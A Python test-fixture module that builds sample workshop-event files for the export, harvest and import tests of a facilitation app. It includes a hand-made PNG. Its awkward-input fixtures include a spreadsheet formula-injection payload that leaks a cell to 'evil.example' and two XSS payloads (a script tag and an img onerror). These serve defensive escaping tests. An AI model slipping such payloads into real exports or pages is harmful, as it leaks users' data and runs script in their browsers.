"""Events to export in tests and benchmarks: a rich one with every awkward input, big ones,
and a logo (a PNG written by hand).

Not a test module: imported by the harvest, export, merge and import tests and by
``benchmarks/bench_export.py``.
"""

from __future__ import annotations

import json
import random
import struct
import uuid
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

from facilitator.core.demo import load_deck_choice, load_plan_choice
from facilitator.store.db import EventStore

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SCRIPT = "<script>alert('owned')</script> we said so"
IMG = 'Picture this: <img src=x onerror="alert(1)"> & more'
QUOTE_WITH_COMMAS = 'She said, "trust comes first, then the plan",\nand we all nodded; really.'

# (table number or None, round number or None, kind, text, card keys)
ENTRIES: list[tuple[int | None, int | None, str, str, tuple[str, ...]]] = [
    (1, 2, "theme", "Leadership is a practice, not a position", ("mindset",)),
    (1, 2, "quote", QUOTE_WITH_COMMAS, ()),
    (1, 2, "question", "How do we lead where we have no authority?", ("relationships",)),
    (2, 2, "theme", "Système, équipe, Zusammenarbeit: naïve café talk ☕ 🚀", ()),
    (2, 2, "action", "Set up a peer-coaching trio before June", ("relationships",)),
    (3, 2, "theme", FORMULA, ()),
    (3, 2, "theme", "+1 to what table 2 said", ()),
    (3, 2, "theme", "-2 degrees of separation between services", ()),
    (4, 2, "theme", "@x mentioned the regional board", ()),
    (4, 2, "theme", SCRIPT, ()),
    (5, 2, "theme", IMG, ("mindset",)),
    (5, 3, "theme", "القيادة المشتركة — shared leadership (right to left)", ()),
    (5, 3, "quote", "“You can’t coach a system you refuse to see.”", ("systems-thinking",)),
    (6, 3, "theme", "Clients are tired of being passed between services", ("systems-thinking",)),
    (6, 3, "question", "Who holds the whole picture for a family?", ()),
    (7, 3, "action", "Map the local system with clients, not for them", ("systems-thinking",)),
    (12, 4, "theme", "Uncertainty is where the learning is; 学习 happens there", ("uncertainty",)),
    (12, 4, "theme", "Mindset card started the best conversation", ("mindset",)),
    (None, 5, "quote", "The room agreed: slow down to go faster.", ()),
    (None, None, "action", "Send the harvest to every delegate by Friday", ()),
]
HIDDEN_TEXT = "Hidden from the wall but still said"
DELETED_TEXT = "A typo the scribe deleted"
PICKS = ["mindset", "mindset", "relationships", "systems-thinking", "mindset", "uncertainty"]


def rich_event(folder: Path, name: str = "rich.facilitator") -> Path:
    """A closed event file holding every kind of entry and every awkward input."""
    path = folder / name
    store = EventStore.create(
        path,
        title="Coaching & mentoring — système <leadership>",
        deck=load_deck_choice(None),
        plan=load_plan_choice(None),
        tables=12,
        date="2025-03-14",
        venue="Kings Place, London",
        facilitator="Ann O'Neil",
    )
    with store:
        with store.conn:
            store.conn.execute("UPDATE event_table SET name = 'Garden room' WHERE number = 7")
        rounds = store.rounds()
        tables = {t.number: t for t in store.tables()}
        start = datetime(2025, 3, 14, 9, 30, tzinfo=UTC)
        at = start
        for r in rounds:
            end = at + timedelta(minutes=float(r.round.minutes))
            store.set_round_times(r.id, planned_start=at.isoformat(), planned_end=end.isoformat())
            at = end
        rounds = store.rounds()
        for r, late in zip(rounds[:3], (2, 4, 7), strict=True):
            assert r.planned_start and r.planned_end
            s = datetime.fromisoformat(r.planned_start) + timedelta(minutes=late)
            store.set_round_times(
                r.id,
                actual_start=s.isoformat(),
                actual_end=(s + timedelta(minutes=float(r.round.minutes) + 1)).isoformat(),
            )
            store.add_timeline("round_started", round_id=r.id, detail={"late_minutes": late})
        for table, rnd, kind, body, cards in ENTRIES:
            store.add_theme(
                body,
                table_id=tables[table].id if table else None,
                round_id=rounds[rnd - 1].id if rnd else None,
                kind=kind,
                cards=cards,
            )
        hidden = store.add_theme(HIDDEN_TEXT, table_id=tables[8].id, round_id=rounds[1].id)
        store.set_theme_hidden(hidden.id, True)
        deleted = store.add_theme(DELETED_TEXT, table_id=tables[8].id, round_id=rounds[1].id)
        store.delete_theme(deleted.id)
        for n, key in enumerate(PICKS, start=1):
            store.add_card_pick(key, table_id=tables[n].id, round_id=rounds[4].id)
        gone = store.add_card_pick("uncertainty", table_id=tables[9].id, round_id=rounds[4].id)
        store.delete_card_pick(gone.id)
    return path


def live_texts() -> list[str]:
    """Every entry text the harvest must show (deleted left out, hidden kept)."""
    return [e[3] for e in ENTRIES] + [HIDDEN_TEXT]


WORDS = (
    *("trust", "listening", "systems", "clients", "partners", "budget", "courage", "curiosity"),
    *("time", "place", "power", "learning", "purpose", "leadership", "relationships"),
    *("uncertainty", "change", "voice", "care", "data"),
)


def big_event(folder: Path, themes: int, *, tables: int = 100, seed: int = 7) -> Path:
    """An event with ``themes`` entries spread over tables and rounds, inserted in bulk."""
    rng = random.Random(seed)
    path = folder / f"big-{themes}.facilitator"
    deck = load_deck_choice(None)
    keys = [c.id for c in deck.cards]
    store = EventStore.create(
        path,
        title=f"Big event ({themes} entries)",
        deck=deck,
        plan=load_plan_choice(None),
        tables=tables,
        date="2025-03-14",
        venue="Conference centre",
    )
    with store:
        rounds = store.rounds()
        table_ids = [t.id for t in store.tables()]
        base = datetime(2025, 3, 14, 9, 30, tzinfo=UTC)
        rows = []
        for n in range(themes):
            stamp = (base + timedelta(seconds=n * 0.5)).isoformat(timespec="microseconds")
            kind = rng.choices(("theme", "quote", "question", "action"), (70, 15, 10, 5))[0]
            body = " ".join(rng.choices(WORDS, k=rng.randint(5, 22))).capitalize()
            rows.append(
                {
                    "id": str(uuid.UUID(int=rng.getrandbits(128))),
                    "round_id": rounds[n % len(rounds)].id,
                    "table_id": table_ids[n % len(table_ids)],
                    "kind": kind,
                    "text": body + ".",
                    "cards_json": json.dumps(rng.sample(keys, rng.choice((0, 0, 1, 2)))),
                    "hidden": False,
                    "created_at": stamp,
                    "updated_at": stamp,
                    "deleted_at": None,
                }
            )
        columns = ", ".join(rows[0])
        marks = ", ".join(f":{c}" for c in rows[0])
        store.conn.execute("BEGIN")
        store.conn.executemany(f"INSERT INTO theme ({columns}) VALUES ({marks})", rows)
        store.conn.execute("COMMIT")
        for n in range(tables):
            store.add_card_pick(rng.choice(keys), table_id=table_ids[n], round_id=rounds[4].id)
    return path


def png(width: int, height: int, colour_type: int = 2, depth: int = 8) -> bytes:
    """A PNG of a gradient, written by hand (colour type 2: RGB, 6: RGBA, 0: grey)."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    rows = b"".join(
        b"\x00" + bytes((x * 7 + y * c * 40) % 256 for x in range(width) for c in range(channels))
        for y in range(height)
    )

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )
